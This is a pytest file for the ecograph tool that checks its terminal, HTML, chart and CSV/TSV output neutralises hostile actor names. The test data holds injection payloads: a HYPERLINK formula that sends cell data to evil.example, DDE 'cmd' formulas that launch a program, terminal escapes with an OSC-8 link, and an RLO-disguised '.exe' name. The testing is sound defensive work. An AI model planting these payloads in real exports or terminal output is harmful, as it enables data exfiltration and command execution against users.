"""Data shown to a terminal, a page or a spreadsheet stays data (issue 13, items 9 and 10).

Hostile names live in a small workspace built here: the query fixture (tests/fixtures/queries)
plus actors whose names are rich markup (``[/]`` crashed `ecograph query`), terminal escapes
(ESC, CSI, OSC-8 links), a right-to-left override (U+202E reversed names in tooltips, report
cells and search results) and spreadsheet formulas (``=``, ``+``, ``-``, ``@``, tab, CR).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pyoxigraph as ox
import pytest
from typer.testing import CliRunner

from ecograph import cli
from ecograph.cli import app
from ecograph.ingest.conversion import Reject
from ecograph.ingest.importer import write_rejects
from ecograph.network.graph_files import write_graph
from ecograph.render import build_map
from ecograph.render.report import build_report
from ecograph.render.report_page import render_html
from ecograph.safetext import (
    FSI,
    PDI,
    bdi,
    clean,
    for_stream,
    isolate,
    labelled,
    spreadsheet_cell,
    terminal,
)
from ecograph.store import open_store

from .test_report import NANTES_METROPOLE, fixture_quads

ACTOR = "https://w3id.org/ecograph/data/actor/"
MARKUP = "Zeta [/] [bold red]loud[/bold red] [link=http://evil.example]x[/link]"
ESCAPES = "Eta \x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x9b31m\x07"
RLO = "Theta \u202egpj.exe"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
NAMES = [MARKUP, ESCAPES, RLO, *FORMULAS]
TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

runner = CliRunner()


def hostile_trig() -> str:
    """Actors named ``NAMES`` in Nantes, each tied to a01, plus a grant of -3.5 (a decimal)."""
    lines = [
        "@prefix eg: <https://w3id.org/ecograph/ontology#> .",
        "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .",
        "<https://w3id.org/ecograph/data/graph/source-h> {",
    ]
    for i, name in enumerate(NAMES):
        lines += [
            f"<{ACTOR}h{i}> a eg:Actor ; skos:prefLabel {ox.Literal(name, language='fr')} ;",
            "  eg:actorType <https://w3id.org/ecograph/id/actor-type/association> ;",
            "  eg:sector <https://w3id.org/ecograph/id/sector/ess> ;",
            "  eg:basedIn <https://w3id.org/ecograph/territory/commune/44109> ;",
            "  eg:worksOn <https://w3id.org/ecograph/id/domain/housing> .",
            f"<https://w3id.org/ecograph/data/partnership/h{i}> a eg:Partnership ;",
            "  eg:partnershipType <https://w3id.org/ecograph/id/partnership-type/coConstruction> ;",
            f"  eg:partner <{ACTOR}h{i}> , <{ACTOR}a01> ;",
            "  eg:domain <https://w3id.org/ecograph/id/domain/housing> .",
        ]
    lines += [
        "<https://w3id.org/ecograph/data/partnership/hx> a eg:Partnership ;",
        "  eg:partnershipType <https://w3id.org/ecograph/id/partnership-type/funding> ;",
        f"  eg:partner <{ACTOR}h0> , <{ACTOR}a01> ; eg:funder <{ACTOR}a01> ;",
        f"  eg:beneficiary <{ACTOR}h0> ; eg:amount -3.5 .",
        "}",
    ]
    return "\n".join(lines)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "ws"
    with open_store(folder) as store:
        store.add(fixture_quads() + list(ox.parse(hostile_trig(), format=ox.RdfFormat.TRIG)))
    return folder


@pytest.fixture(scope="module")
def names_query(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("rq") / "hostile-names.rq"
    path.write_text(
        "# title: Hostile names\n# description: The names of the h* actors, and amounts.\n"
        "PREFIX eg: <https://w3id.org/ecograph/ontology#>\n"
        "PREFIX skos: <http://www.w3.org/2004/02/skos/core#>\n"
        "SELECT ?name ?amount WHERE {\n"
        f'  {{ ?a skos:prefLabel ?name FILTER(STRSTARTS(STR(?a), "{ACTOR}h")) }}\n'
        "  UNION { ?p eg:amount ?amount FILTER(?amount < 0) }\n} ORDER BY ?name\n",
        encoding="utf-8",
    )
    return path


@pytest.fixture
def wide(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A wide console, so that rich tables do not fold the names the tests look for."""
    monkeypatch.setattr(cli.console, "_width", 400)
    monkeypatch.setattr(cli.errors, "_width", 400)
    yield


def _run(*args: str):
    return runner.invoke(app, list(args))


# --------------------------------------------------------------------------- the helpers
def test_clean_drops_controls_and_bidi_overrides_only() -> None:
    assert clean(ESCAPES) == "Eta ]8;;http://evil.example/\\click]8;;\\ [2J31m"
    assert clean(RLO) == "Theta gpj.exe"
    assert clean("a\tb\nc\u2028 é שלום [/]") == "a\tb\nc\u2028 é שלום [/]"
    assert clean(None) == ""


def test_terminal_text_is_never_markup() -> None:
    text = terminal(MARKUP)
    assert text.plain == MARKUP and not text.spans
    line = labelled("error:", "red", MARKUP + "\x1b[31m")
    assert line.plain == f"error: {MARKUP}[31m"


def test_isolate_and_bdi() -> None:
    assert isolate(RLO) == f"{FSI}Theta gpj.exe{PDI}"
    assert isolate(f"{PDI}x{FSI}") == f"{FSI}x{PDI}"  # an unbalanced isolate cannot escape
    assert str(bdi("<b>\u202e")) == "<bdi>&lt;b&gt;</bdi>"


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_quote(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-3.5", "+1e5", "-.5", "12", "0.25", -0.25, 3, None, "Alpha", "", "'=already", " =x"]
)
def test_numbers_and_plain_text_stay(value: object) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", ["-3.5\n=1+1", "-1+1", "+1e5)", "-", "-٣"])
def test_almost_numbers_are_escaped(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


# --------------------------------------------------------------------------- terminal (item 9)
def test_query_table_prints_names_as_text(workspace: Path, names_query: Path, wide: None) -> None:
    result = _run("--store", str(workspace), "query", str(names_query))
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert MARKUP in out  # printed as written, neither parsed nor a crash
    assert "Theta gpj.exe" in out and "click" in out
    assert not TERMINAL_CONTROLS.search(out.replace("\n", ""))


def test_import_refusal_prints_cells_as_text(tmp_path: Path, wide: None) -> None:
    bad = tmp_path / "subventions.csv"
    bad.write_text(
        "nomAttribuant;idAttribuant;dateConvention;referenceDecision;nomBeneficiaire;"
        "idBeneficiaire;objet;montant;nature\n"
        'VILLE DE NANTES;21440109300015;01/04/2019;D3;ASSO \u202eB;"[/]4430618\x1b[2J\x1b]8;;'
        'http://evil.example/\x07";Aide;100;aide en numéraire\n',
        encoding="utf-8",
    )
    result = _run(
        "--store",
        str(tmp_path / "ws"),
        "import",
        "--strict",
        str(bad),
        "--rejects",
        str(tmp_path / "r.csv"),
    )
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    err = result.stderr
    assert "refused:" in err and "«[/]4430618[2J]8;;http://evil.example/»" in err
    assert not TERMINAL_CONTROLS.search(err.replace("\n", ""))


# --------------------------------------------------------------------------- pages (item 9)
def _hostile_map_nodes(workspace: Path) -> tuple[str, list[dict[str, object]]]:
    from ecograph.scope import Scope, project_scope

    from .test_maps import data_block

    with open_store(workspace, read_only=True) as store:
        projection = project_scope(store, Scope())
    page = build_map(projection, aggregate="none", lang="en").html
    return page, data_block(page, "map-nodes")  # type: ignore[return-value]


def test_map_names_lose_bidi_overrides_and_controls(workspace: Path) -> None:
    page, nodes = _hostile_map_nodes(workspace)
    labels = {n["label"] for n in nodes}
    assert "Theta gpj.exe" in labels and clean(ESCAPES) in labels and MARKUP in labels
    for node in nodes:
        assert not TERMINAL_CONTROLS.search(str(node["label"]) + str(node["title"]))
    assert "\u202e" not in page and "\x1b" not in page
    # Facet labels sit in isolates, even inside <option>, which cannot hold a <bdi>.
    assert re.search(f'<option value="0">{FSI}[^<{PDI}]+{PDI} \\(\\d+\\)</option>', page)


def test_report_cells_are_isolated(workspace: Path) -> None:
    with open_store(workspace, read_only=True) as store:
        report = build_report(store, NANTES_METROPOLE, lang="en")
    page = render_html(report, map_page="<p>map</p>")
    assert "\u202e" not in page and "\x1b" not in page
    assert "<bdi>Theta gpj.exe</bdi>" in page or "<bdi>Zeta [/]" in page
    assert re.search(r"<td><bdi>[^<]*</bdi><br><small><bdi>", page)


def test_report_charts_lose_bidi_overrides() -> None:
    from ecograph.render import charts

    svg = charts.bar_chart([(RLO, 3), (ESCAPES, 1)], title="t", value_text=str)
    assert "\u202e" not in svg and "\x1b" not in svg
    assert f"<title>{FSI}Theta gpj.exe{PDI}: 3</title>" in svg


# --------------------------------------------------------------------------- spreadsheets (10)
def _csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def _read(path: Path, encoding: str = "utf-8") -> str:
    """The file as written: a carriage return inside a cell stays one (no newline folding)."""
    return path.read_bytes().decode(encoding)


def test_query_csv_escapes_formulas_and_keeps_numbers(workspace: Path, names_query: Path) -> None:
    result = _run("--store", str(workspace), "query", str(names_query), "-f", "csv")
    assert result.exit_code == 0, result.output
    cells = _csv_cells(result.stdout)
    for formula in FORMULAS:
        assert "'" + formula in cells and formula not in cells
    assert "-3.5" in cells  # an xsd:decimal: a number to a spreadsheet, not a formula
    raw = _run(
        "--store", str(workspace), "query", str(names_query), "-f", "csv", "--no-formula-escape"
    )
    assert set(FORMULAS) <= set(_csv_cells(raw.stdout))


class _Screen(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def test_machine_formats_show_escapes_on_a_terminal_and_keep_data_in_files() -> None:
    """CSV, TSV, JSON or Markdown printed straight to a terminal must not drive it, but the
    same output piped or redirected is the data, every character of it."""
    text = "name\r\n" + ESCAPES + "\r\n" + RLO + "\tx\n"
    shown = for_stream(text, _Screen())
    assert "\x1b" not in shown and "\x9b" not in shown and "\x07" not in shown
    assert "\u202e" not in shown and "\\u202e" in shown and "\\x1b]8;;" in shown
    assert shown.count("\r\n") == 2 and "\t" in shown  # the format's own line ends and tabs
    assert for_stream("a\rb", _Screen()) == "a\\rb"  # a bare CR would overwrite the line
    assert for_stream(text, io.StringIO()) == text


def test_query_tsv_to_a_pipe_keeps_every_character(workspace: Path, names_query: Path) -> None:
    result = _run("--store", str(workspace), "query", str(names_query), "-f", "tsv")
    assert result.exit_code == 0, result.output
    assert '"Theta \u202egpj.exe"@fr' in result.stdout  # CliRunner's stdout is a pipe


def test_query_tsv_escapes_formulas(workspace: Path, names_query: Path) -> None:
    result = _run("--store", str(workspace), "query", str(names_query), "-f", "tsv")
    assert result.exit_code == 0, result.output
    assert '"\'=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"x\\")"@fr' in result.stdout
    assert '"\'@SUM(1+1)"@fr' in result.stdout
    assert '"@SUM(1+1)"@fr' not in result.stdout


def test_network_csv_escapes_formulas(workspace: Path, tmp_path: Path) -> None:
    out = tmp_path / "net.csv"
    result = _run("--store", str(workspace), "network", "--out", str(out), "-f", "csv")
    assert result.exit_code == 0, result.output
    nodes = _read(tmp_path / "net-nodes.csv")
    cells = _csv_cells(nodes)
    for formula in FORMULAS:
        assert "'" + formula in cells and formula not in cells
    assert any(re.fullmatch(r"-0\.\d+", cell) for cell in cells)  # E-I indices stay numbers


def test_network_csv_without_escaping(tmp_path: Path) -> None:
    import networkx as nx

    G = nx.Graph()
    G.add_node("a", name="=1+1", score=-0.5)
    written = write_graph(G, tmp_path / "g.csv", "csv", formula_escape=False)
    assert _csv_cells(_read(written[0])) == ["id", "name", "score", "a", "=1+1", "-0.5"]
    escaped = write_graph(G, tmp_path / "e.csv", "csv")
    assert "'=1+1" in _csv_cells(_read(escaped[0]))


def test_rejects_csv_escapes_formulas(tmp_path: Path) -> None:
    rejects = [Reject(3, "idBeneficiaire", "=1+1", "bad", ["@SUM(1)", "-2+3", "-3.5", "ok"])]
    path = write_rejects(
        tmp_path / "in.csv", rejects, ["a", "b", "c", "=d"], target=tmp_path / "r.csv"
    )
    cells = _csv_cells(_read(path, "utf-8-sig"), ";")
    assert cells[8] == "'=d"  # a header from the file is a cell too
    assert {"'=1+1", "'@SUM(1)", "'-2+3", "-3.5", "ok", "'=d"} <= set(cells)
    assert not {"=1+1", "@SUM(1)", "-2+3", "=d"} & set(cells)
    raw = write_rejects(
        tmp_path / "in.csv",
        rejects,
        ["a", "b", "c", "=d"],
        target=tmp_path / "s.csv",
        formula_escape=False,
    )
    assert {"=1+1", "@SUM(1)", "-2+3", "=d"} <= set(_csv_cells(_read(raw, "utf-8-sig"), ";"))


def test_import_writes_escaped_rejects(tmp_path: Path) -> None:
    bad = tmp_path / "subventions.csv"
    bad.write_text(
        "nomAttribuant;idAttribuant;dateConvention;referenceDecision;nomBeneficiaire;"
        "idBeneficiaire;objet;montant;nature\n"
        'VILLE DE NANTES;21440109300015;01/04/2019;D3;"=HYPERLINK(""http://evil.example"",'
        '""x"")";4430618;@SUM(1);-2+3;aide en numéraire\n',
        encoding="utf-8",
    )
    result = _run(
        "--store",
        str(tmp_path / "ws"),
        "import",
        "--strict",
        str(bad),
        "--rejects",
        str(tmp_path / "r.csv"),
    )
    assert result.exit_code == 1, result.output
    cells = _csv_cells(_read(tmp_path / "r.csv", "utf-8-sig"), ";")
    assert {'\'=HYPERLINK("http://evil.example","x")', "'@SUM(1)", "'-2+3"} <= set(cells)
    result = _run(
        "--store",
        str(tmp_path / "ws"),
        "import",
        "--strict",
        str(bad),
        "--rejects",
        str(tmp_path / "raw.csv"),
        "--no-formula-escape",
    )
    assert result.exit_code == 1, result.output
    cells = _csv_cells(_read(tmp_path / "raw.csv", "utf-8-sig"), ";")
    assert {'=HYPERLINK("http://evil.example","x")', "@SUM(1)", "-2+3"} <= set(cells)


def test_metrics_csv_escapes_formulas(workspace: Path, tmp_path: Path) -> None:
    result = _run(
        "--store", str(workspace), "metrics", "-f", "csv", "--out", str(tmp_path), "--no-write"
    )
    assert result.exit_code == 0, result.output
    cells = _csv_cells(_read(tmp_path / "actors.csv"))
    for formula in FORMULAS:
        assert "'" + formula in cells and formula not in cells
    assert any(
        re.fullmatch(r"-0\.\d+", cell) for cell in _csv_cells(_read(tmp_path / "sectors.csv"))
    )
